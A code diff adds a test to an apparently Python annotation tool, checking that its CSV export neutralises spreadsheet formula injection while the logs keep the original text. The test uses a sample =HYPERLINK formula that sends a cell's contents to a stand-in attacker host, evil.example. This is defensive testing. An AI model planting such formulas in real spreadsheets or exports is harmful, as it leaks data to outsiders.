@@ -257,3 +257,25 @@ def test_the_same_gold_count_in_every_report(tmp_path):
     s = LabellingSession("a5", seg, p.labels, order="corpus", show_guess=False)
     assert line in s.describe()
     s.close()
+
+
+def test_disagreements_csv_neutralises_formulas_but_the_logs_keep_the_text(tmp_path):
+    """Formula injection (issue 12, item 12): a segment and a reason beginning with
+    =HYPERLINK( reach the spreadsheet as text; the stored reason is unchanged."""
+    from xitu.agreement import write_csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    record(tmp_path, "a1", "s1", E)
+    record(tmp_path, "a2", "s1", C)
+    record(tmp_path, ADJUDICATED, "s1", C, reason=evil)
+    seg = segs(5)
+    seg.loc[seg.segment_id == "s1", "text"] = "=1+2 " + evil
+    cur = replay(read_logs(tmp_path).entries)
+    table = disagreements(cur, seg, include_adjudicated=True)
+    out = write_csv(table, tmp_path / "out" / "disagreements.csv")
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # Excel shows the Chinese
+    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert back.loc[0, "adjudication_reason"] == "'" + evil and back.loc[0, "text"] == "'=1+2 " + evil
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in back.astype(str).values.ravel())
+    assert read_log(tmp_path / "adjudicated.jsonl").entries[0]["reason"] == evil  # stored text unchanged
